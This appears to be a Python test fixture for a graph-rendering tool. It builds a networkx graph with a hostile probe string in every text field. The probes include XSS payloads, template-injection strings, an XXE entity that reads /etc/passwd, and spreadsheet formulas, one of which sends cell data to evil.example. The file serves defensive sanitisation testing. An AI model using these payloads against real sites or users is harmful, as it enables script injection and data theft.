"""Texts that try to be more than text, and a network in which every field is one of them."""

from __future__ import annotations

from typing import Any

import networkx as nx

# The payloads call `alert`; a dialog, a refused dialog or a policy that stops it is seen by whoever watches the page.
PROBES = {
    # Elements and their handlers
    "script": "<script>alert(1)</script>",
    "script within script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image": "<img src=x onerror=alert(1)>",
    "image with line feed": "<img src=x\nonerror=alert(1)>",
    "image from afar": "<img src=https://evil.example/pixel.png>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "style element": "<style>@import 'https://evil.example/x.css';</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example/><button>go</button></form>",
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "link": "<a href='javascript:alert(1)'>x</a>",
    "table row": "</td></tr></table><script>alert(1)</script>",
    # Ways out of where the text stands
    "double quote": '" onfocus=alert(1) autofocus x="',
    "single quote": "' onmouseover=alert(1) x='",
    "quote and element": '"><svg onload=alert(1)>',
    "backtick": "`><img src=x onerror=alert(1)>`",
    "end of script": "</script><script>alert(1)</script>",
    "end of script in capitals": "</SCRIPT/x><img src=x onerror=alert(1)>",
    "end of style": "</style><script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "end of textarea": "</textarea><script>alert(1)</script>",
    "comment": "<!--",
    "end of comment": "--><img src=x onerror=alert(1)>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "end of CDATA": "]]><script>alert(1)</script>",
    "entity declaration": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "srcdoc": "'\"></iframe><script>alert(1)</script>",
    "srcdoc, escaped once": "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    # Text that is escaped, or is read by another language
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "unicode escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "JavaScript template": "${alert(1)}",
    "jinja expression": "{{ 7*7 }}",
    "jinja statement": "{% for x in y %}{% endfor %}{# #}",
    "angular": "{{constructor.constructor('alert(1)')()}}",
    "CSS url": "red;background:url(https://evil.example/x)",
    "CSS breakout": "}*{background:url('https://evil.example/x')}",
    "the letters that change pyvis's mind": "href <img src=x onerror=alert(1)>",
    "prototype": "__proto__",
    # Other name spaces
    "SVG": "<svg onload=alert(1)>",
    "SVG script": "<svg><script href=data:,alert(1) /></svg>",
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "SVG foreign object": "</text></svg><foreignObject><img src=x onerror=alert(1)></foreignObject>",
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Addresses that are no links
    "javascript": "javascript:alert(1)",
    "javascript in mixed case": "JaVaScRiPt:alert(1)",
    "javascript after control": "\x01javascript:alert(1)",
    "javascript with tab": "java\tscript:alert(1)",
    "javascript with line feed": "java\nscript:alert(1)",
    "javascript as entities": "&#106;avascript&colon;alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "no scheme": "//evil.example/x.js",
    "http with quote": 'http://evil.example/"onmouseover="alert(1)',
    "http with element": "https://evil.example/><script>alert(1)</script>",
    # Characters
    "line separators": "a\u2028b\u2029c",
    "bidi override": "abc\u202egnp.exe",
    "NUL": "a\x00<script>alert(1)</script>",
    "lone controls": "a\x07\x08\x0b\x1b[31mb\x7f\x85c",
    "lone surrogate": "a\ud83db",
    "no characters": "a\ufffe\uffffb",
    "byte order mark": "\ufeff<script>alert(1)</script>",
    "combining marks": "Z" + "\u0335\u0321\u0489" * 20,
    "very long": "<b>" * 500,
    # Cells that a spreadsheet would run
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after tab": "\t=1+1",
    "formula in wide letters": "\uff1d1+1",
}  # fmt: skip

TEXTS = (
    *("title", "description", "licence", "publisher", "generator", "as of", "source", "source publisher"),
    *("source date", "label", "family", "type", "node description", "alias", "alias start", "alias end", "alias note"),
    *("scheme", "identifier", "property", "value", "event", "manner", "event date", "before", "after"),
    *("statement kind", "statement", "relationship", "forward", "inverse", "role", "start", "end", "via"),
    *("note", "rule", "standing note", "words", "says", "locator", "reason", "proof note", "proof id", "passage"),
    *("story title", "story text", "story date", "group"),
)


def hostile(text: str) -> nx.MultiDiGraph:
    """A network in which every field is the text with the field's name, so that each can be told from the others.

    Addresses are the text alone.
    """
    of = {name: f"{text} in {name}" for name in TEXTS}

    def proofs(number: int) -> list[dict[str, Any]]:
        common = {
            **{"id": of["proof id"], "source": "s", "basis": "implied", "confidence": "low", "note": of["proof note"]},
            **{"words": of["words"], "says": of["says"], "locator": of["locator"], "strength": of["reason"]},
            **{"passage": f"before {of['words']} after, {of['passage']}", "at": 7},
        }
        forms = ("quoted", "cited", "inferred", "editor")
        return [common | {"form": form} for form in forms[:number]]

    graph: nx.MultiDiGraph = nx.MultiDiGraph(
        **{name: of[name] for name in ("title", "description", "licence", "publisher", "generator")},
        as_of=of["as of"],
        sources={
            "s": {"title": of["source"], "publisher": of["source publisher"], "date": of["source date"], "url": text},
            "t": {"title": "second " + of["source"], "publisher": "p", "date": None, "url": text},
        },
        families={"f": {"label": of["family"]}},
        types={"t": {"label": of["type"]}},
        story=[
            {"title": of["story title"], "text": of["story text"], "bodies": ["a", "b"], "date": of["story date"]},
            {"title": "two " + of["story title"], "text": of["story text"], "bodies": ["a"], "date": None},
        ],
    )
    event = {"kind": of["event"], "manner": of["manner"], "date": of["event date"], "evidence": proofs(4)}
    for node in ("a", "b"):
        graph.add_node(
            node,
            **{"label": f"{node} " * (node == "b") + of["label"], "family": "f", "type": "t", "types": ["t"]},
            **{"description": of["node description"], "website": text},
            names=[
                {
                    **{"name": of["alias"], "start": of["alias start"], "end": of["alias end"]},
                    **{"date_note": of["alias note"], "evidence": proofs(1)},
                }
            ],
            identifiers=[{"scheme": "x", "label": of["scheme"], "value": of["identifier"], "url": text}],
            attributes=[
                {"property": of["property"], "value": of["value"], "start": None, "end": None, "evidence": proofs(1)}
            ],
            events=[
                event | {"before": [{"label": of["before"]}], "after": [{"label": of["after"]}], "about": []},
                event | {"before": [], "after": [], "about": [{"label": of["before"]}]},
            ],
            statements=[{"kind": of["statement kind"], "label": of["statement"], "evidence": proofs(4)}],
        )
    graph.add_node("g", label=of["group"], sort="group", type="t", family="f", evidence=proofs(1), count=3, open=True)
    graph.nodes["g"]["members"] = ["a", "not here"]
    for number in range(6):  # alike, so that they are folded and the fold is called by their type
        graph.add_node(f"m{number}", label=f"m{number}", family="f", type="t")
        graph.add_edge(f"m{number}", "g", key=f"m{number}", kind="k", label="k", forward="k", inverse="k")
    for key in ("one", "two"):
        graph.add_edge(
            "a",
            "b",
            key=key,
            **{"kind": "r", "label": of["relationship"], "forward": of["forward"], "inverse": of["inverse"]},
            **{"role": of["role"], "start": of["start"], "end": of["end"], "note": of["note"], "rule": of["rule"]},
            **{"standing": "disputed", "standing_note": of["standing note"], "derived": True, "contradicts": ["two"]},
            **{"start_bounds": ["2001-01-01", "2001-12-31"], "end_bounds": ["2003-01-01", "2003-12-31"]},
            via=[{"id": "b", "label": of["via"]}, {"id": "not here", "label": of["via"]}],
            evidence=proofs(4),
            counter_evidence=proofs(1),
        )
    return graph
